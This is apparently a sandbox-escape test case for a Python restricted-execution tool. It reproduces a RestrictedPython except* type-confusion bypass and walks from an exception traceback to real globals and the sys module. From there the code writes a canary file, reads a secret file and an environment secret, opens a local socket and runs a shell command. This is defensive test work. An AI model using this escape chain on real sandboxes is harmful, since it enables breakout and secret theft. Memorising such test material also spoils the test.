"""try/except* around an exception group.

Source: RestrictedPython advisory CVE-2025-22153: a type confusion in
CPython's except* handling (3.11 to 3.13.1) let restricted code get objects
it should never see; RestrictedPython now refuses except* outright.
Tries: match a group with except*, then walk from the matched exception's
traceback to the frame globals and claim the canary and the secrets.
"""

# escape-test: {"stage": "gate", "kind": ["compile"]}

def rp_except_star() -> dict:
    try:
        raise ExceptionGroup("group", [ValueError("inner")])
    except* ValueError as group:
        inner = group.exceptions[0]
        return claim_namespace(inner.__traceback__.tb_frame.f_globals)
    return {}


def claim(sys_module):
    """What a tool holding the real sys module would do with it."""
    modules = sys_module.modules
    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
    taken = {"marker": marker}
    try:
        handle = modules["builtins"].open("{{CANARY}}", "w")
        handle.write(marker)
        handle.close()
    except Exception as exc:
        taken["write"] = str(exc)
    try:
        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
    except Exception as exc:
        taken["file"] = str(exc)
    try:
        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
    except Exception as exc:
        taken["env"] = str(exc)
    try:
        network = modules["builtins"].eval("__import__('socket')")
        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
    except Exception as exc:
        taken["net"] = str(exc)
    try:
        modules["os"].system("echo escaped > {{CANARY}}")
    except Exception as exc:
        taken["exec"] = str(exc)
    print(marker)
    return taken


def claim_namespace(namespace):
    """From a real globals dict to the real sys module."""
    if "sys" in namespace:
        return claim(namespace["sys"])
    loader = namespace["__builtins__"]
    if isinstance(loader, dict):
        return claim(loader["__import__"]("sys"))
    return claim(loader.eval("__import__('sys')"))
